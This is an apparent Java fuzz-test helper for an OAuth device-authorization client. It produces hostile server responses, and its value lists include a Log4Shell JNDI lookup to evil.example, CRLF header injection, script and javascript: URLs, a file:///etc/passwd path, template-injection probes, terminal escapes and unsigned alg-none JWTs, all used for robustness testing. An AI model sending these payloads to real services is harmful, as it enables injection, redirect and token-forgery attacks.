package io.quarkiverse.deviceauthorization.runtime.endpoint;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Random;

/** What a hostile or careless server puts into its answers. */
final class HostileValues {

    static final List<String> HEADERS = List.of("Content-Type", "Retry-After", "Location", "Content-Encoding",
            "Cache-Control", "WWW-Authenticate", "DPoP-Nonce");

    static final List<Integer> STATUS = List.of(200, 200, 200, 201, 204, 302, 400, 400, 401, 403, 404, 405, 408, 429, 500, 503);

    /** JSON values that are no texts. */
    static final List<String> JSON = List.of("null", "true", "false", "0", "-0", "-1", "5", "0.2", "1e9", "1e300", "1e-300",
            "1e999", "1e-9999", "1E+400", "9223372036854775807", "9223372036854775808", "-9223372036854775809",
            "99999999999999999999999999999999999999", "1.7976931348623157e308", "NaN", "Infinity", "0x10", "05", "{}", "[]",
            "[\"openid\",\"profile\"]", "[null,true,{},[]]", "{\"message\":\"m\",\"code\":31}", "\"\"", "\" \"", "\"\\ud800\"",
            "\"\\udc00\\ud800\"", "\"\\u0000\"", "\"unterminated", "'single'");

    private static final List<String> NAMES = List.of("access_token", "refresh_token", "id_token", "token_type", "expires_in",
            "interval", "scope", "device_code", "user_code", "verification_uri", "verification_url",
            "verification_uri_complete", "verification_url_complete", "error", "error_code", "error_description", "error_uri",
            "message", "status", "issuer", "device_authorization_endpoint", "token_endpoint", "revocation_endpoint",
            "jwks_uri", "userinfo_endpoint", "mtls_endpoint_aliases", "authorization_details", "code", "iss", "sub", "aud",
            "azp",
            "exp", "nbf", "nonce", "tid", "keys", "kty", "crv", "x", "y", "n", "e", "k", "kid", "alg", "use", "x5c", "");

    private static final List<String> TEXTS = List.of("\u001b[31m", "\u001b]0;owned\u0007", "\u009b2J", "\r\nSet-Cookie: a=b",
            "\n", "\t", "\u0000", "\u007f", "\u202e", "\u2066evil\u2069", "\u200b", "\u200f", "\ufeff", "\u2028", "\u2029",
            "\u00ad", "\ud800", "\udfff", "\ue000", "\udb40\udc41", "\u0130", "ﷺ", "e\u0301", "😀", "日本", "&", "=", "%", "%zz",
            "+", "\"", "\\", "<script>", "${jndi:ldap://evil.example}", "{{7*7}}", "%s%n%d", "a b", " ", "",
            "authorization_pending", "slow_down", "access_denied", "expired_token", "invalid_grant", "invalid_client",
            "server_error", "temporarily_unavailable", "invalid device code", "Bad Request", "use_dpop_nonce", "bearer", "DPoP",
            "javascript:alert(1)", "file:///etc/passwd", "data:text/html,x", "http://evil.example/device",
            "http://localhost/device", "https://login.example.com", "https://login.example.com/device?c=1#f",
            "https://user:password@evil.example/", "https://login.example.com@evil.example/", "https://[::1", "https://[::1]/",
            "https:///device", "https:device", "HTTPS://LOGIN.EXAMPLE.COM", "https://l\u00f6gin.example.com/",
            "https://login.example.com/\u202egnp", "//evil.example", "x-app://login", "5", "５", "1e999", "-1", "0x10",
            "Infinity", "NaN", "1.5", "1e9", "eyJhbGciOiJub25lIn0.eyJleHAiOjFlNDAwfQ.", "a.b.c", "...",
            "eyJhbGciOiJub25lIn0.eyJleHAiOi0xfQ.x", "eyJhbGciOiJub25lIn0.eyJleHAiOjk5OTk5OTk5OTk5OTk5OTk5OX0.x",
            AnswerRules.SENT_CODE, AnswerRules.SENT_REFRESH_TOKEN, AnswerRules.SENT_ACCESS_TOKEN,
            AnswerRules.SENT_CLIENT_SECRET, "fake-sent-code%2B1%2F2");

    private static final List<String> CONTENT_TYPES = List.of("application/json", "application/json;charset=utf-16",
            "application/json; charset=\"", "application/json; charset=utf-32", "application/json; charset=iso-2022-kr",
            "application/json; charset=ibm1047", "application/json; charset=x-compound_text",
            "application/json; charset=no-such", "application/x-www-form-urlencoded",
            "application/x-www-form-urlencoded; charset=iso-8859-1", "text/html", "text/plain",
            "multipart/form-data; boundary=x",
            "application/problem+json", "", "/", ";", "*/*", "json", "APPLICATION/JSON");

    private static final List<String> WAITS = List.of("0", "30", "-5", "999999999", "99999999999", "1e9", "5.5", " 7 ", "",
            "soon", "Sun, 01 Mar 2026 12:05:00 GMT", "Sun, 01 Mar 2026 11:00:00 GMT", "Fri, 31 Dec 9999 23:59:59 GMT",
            "Sunday, 01-Mar-26 12:05:00 GMT", "Sun Mar  1 12:05:00 2026", "Mon, 01 Mar 2026 12:05:00 GMT",
            "Sun, 31 Feb 2026 12:05:00 GMT", "Sun, 01 Mar 2026 12:05:00 +1800", "Sat, 01 Jan 0000 00:00:00 GMT");

    private static final List<String> LOCATIONS = List.of("https://evil.example/?code=fake-sent-code", "/login", "", "?", "#",
            "javascript:alert(1)", "//evil.example", "https://evil.example/;jsessionid=1", "http://[", "%00");

    private HostileValues() {
    }

    /** A text, perhaps a few after each other, rarely a very long one. */
    static String text(Random random) {
        String text = one(random, TEXTS);
        int more = random.nextInt(64);
        if (more == 0) {
            return text.repeat(random.nextInt(8) == 0 ? 50_000 / (text.length() + 1) : 600);
        }
        return more < 16 ? text + one(random, TEXTS) : text;
    }

    /** The name of a member: a known one, or one that nobody expects. */
    static String name(Random random) {
        return random.nextInt(4) > 0 ? one(random, NAMES) : text(random);
    }

    static String headerValue(Random random, String name) {
        List<String> values = switch (name) {
            case "Content-Type" -> CONTENT_TYPES;
            case "Retry-After" -> WAITS;
            case "Location" -> LOCATIONS;
            default -> List.of("gzip", "deflate", "br", "identity", "no-store", "fake-nonce");
        };
        String value = one(random, values);
        return random.nextInt(4) > 0 ? value : value + onTheWire(one(random, TEXTS));
    }

    /** A header has single bytes, and neither line ends nor NUL. */
    private static String onTheWire(String text) {
        return new String(text.getBytes(StandardCharsets.UTF_8), StandardCharsets.ISO_8859_1).replaceAll("[\\r\\n\\x00]", "");
    }

    private static String one(Random random, List<String> list) {
        return list.get(random.nextInt(list.size()));
    }
}
